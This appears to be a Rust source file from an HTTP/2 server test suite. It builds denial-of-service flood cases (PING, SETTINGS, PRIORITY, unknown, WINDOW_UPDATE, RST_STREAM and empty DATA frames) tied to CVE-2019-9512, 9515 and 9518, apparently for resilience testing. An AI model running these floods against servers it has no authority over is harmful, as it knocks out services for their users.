//! Frames that cost their sender next to nothing, without end.

use std::slice;

use conformance_wire::frames::{
    DATA, END_HEADERS, Frame, HEADERS, INITIAL_WINDOW_SIZE, PING, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, header_block,
};

use super::{Attack, Means, POST_TO_ROOT, RUN, hello};
use crate::attacker::{Piece, Reading};

/// A kind that RFC 9113 has deprecated.
const PRIORITY: u8 = 2;
/// A kind that nobody knows.
const UNKNOWN: u8 = 0xfa;

pub(super) fn all(means: &Means) -> Vec<Attack> {
    let count = 100 * means.scale;
    let unread = |name, frame: Frame| {
        Attack::new(name, 4, flood(&[], &frame, count)).reading(Reading::Nothing)
    };
    let opened = Frame::new(HEADERS, END_HEADERS, 1, header_block(&means.signed(RUN)));
    let many: Vec<_> = (0..100)
        .map(|number| Frame::new(HEADERS, END_HEADERS, 2 * number + 1, POST_TO_ROOT))
        .collect();
    let window =
        |bytes: u8| Frame::new(SETTINGS, 0, 0, [0, INITIAL_WINDOW_SIZE, 0, 0, bytes, 0]).bytes();
    let windows = [window(1), window(2)].concat().repeat(250);
    vec![
        // CVE-2019-9512.
        unread("flood of PING", Frame::new(PING, 0, 0, [7; 8])),
        // CVE-2019-9515.
        unread("flood of SETTINGS", Frame::new(SETTINGS, 0, 0, [])),
        unread("flood of PRIORITY", Frame::new(PRIORITY, 0, 1, [0, 0, 0, 3, 16])),
        unread("flood of unknown frames", Frame::new(UNKNOWN, 0, 1, [])),
        unread("flood of WINDOW_UPDATE", Frame::new(WINDOW_UPDATE, 0, 0, [0, 0, 0, 1])),
        Attack::new(
            "flood of resets of streams that are closed",
            4,
            flood(slice::from_ref(&opened), &Frame::new(RST_STREAM, 0, 1, [0, 0, 0, 8]), count),
        ),
        // CVE-2019-9518.
        Attack::new("flood of empty DATA", 4, flood(&[opened], &Frame::new(DATA, 0, 1, []), count)),
        Attack::new(
            "flood of SETTINGS that change all windows",
            4,
            [opening(&many), Piece::repeated(windows, count / 10)].into(),
        )
        .reading(Reading::Nothing),
    ]
}

/// These frames, and the last one so many thousand times.
fn flood(first: &[Frame], frame: &Frame, thousands: usize) -> Vec<Piece> {
    vec![opening(first), Piece::repeated(frame.bytes().repeat(1000), thousands)]
}

fn opening(first: &[Frame]) -> Piece {
    let first = first.iter().flat_map(Frame::bytes);
    Piece::once(hello(&[]).into_iter().chain(first).collect::<Vec<_>>())
}
